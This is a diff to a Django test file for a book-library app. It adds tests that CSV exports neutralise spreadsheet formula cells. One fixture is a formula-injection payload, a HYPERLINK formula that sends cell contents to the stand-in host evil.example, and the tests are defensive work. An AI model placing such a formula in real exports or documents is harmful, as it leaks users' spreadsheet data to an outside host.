@@ -9,6 +9,7 @@ from django.test import TestCase
 from django.urls import reverse
 
 from accounts.models import BookReview, BookShelf, ShelfVisibility
+from accounts.tests.factories import BookReviewFactory, BookShelfFactory
 from catalog.models import Book
 from core.tests.factories import UserFactory
 from library import formats
@@ -129,6 +130,43 @@ def test_export_round_trip_gives_a_fresh_account_the_same_library(client, user, 
     upload(client, exported, name="cgbookstore-biblioteca.csv")
     assert ImportJob.objects.get(user=fresh).unmatched == 0
     assert library_of(fresh) == library_of(user)
+
+
+def test_export_neutralises_formula_cells_and_re_imports_them_unchanged(client, user, catalog):
+    """A review or shelf name a spreadsheet would run as a formula is written with a leading '."""
+    book = catalog["dom"]
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"clique")'
+    BookShelfFactory(user=user, book=book, shelf_type=BookShelf.ShelfType.CUSTOM, custom_name="@SUM(1+1)")
+    BookReviewFactory(user=user, book=book, rating=4, text=formula)
+    client.force_login(user)
+    exported = b"".join(client.get(reverse("library:export_goodreads")).streaming_content)
+    row = next(csv.DictReader(io.StringIO(exported.decode("utf-8-sig"))))
+    assert row["My Review"] == "'" + formula
+    assert row["Bookshelves"] == "'@SUM(1+1)"
+    assert row["ISBN13"] == '="9788535910681"'  # our own formula keeps the zeros
+    fresh = UserFactory()
+    client.force_login(fresh)
+    upload(client, exported, name="cgbookstore-biblioteca.csv")
+    assert library_of(fresh) == library_of(user)
+
+
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ("=1+1", "'=1+1"),
+        ("+55 11", "'+55 11"),
+        ("-x", "'-x"),
+        ("@me", "'@me"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Dom", "Dom"),
+        ("", ""),
+        (3, 3),
+    ],
+)
+def test_neutralise_cell(value, expected):
+    assert formats.neutralise_cell(value) == expected
+    assert formats.unneutralise_cell(formats.neutralise_cell(value)) == value if isinstance(value, str) else True
 
 
 def test_account_export_is_one_json_document_with_every_section(auth_client, user, catalog):
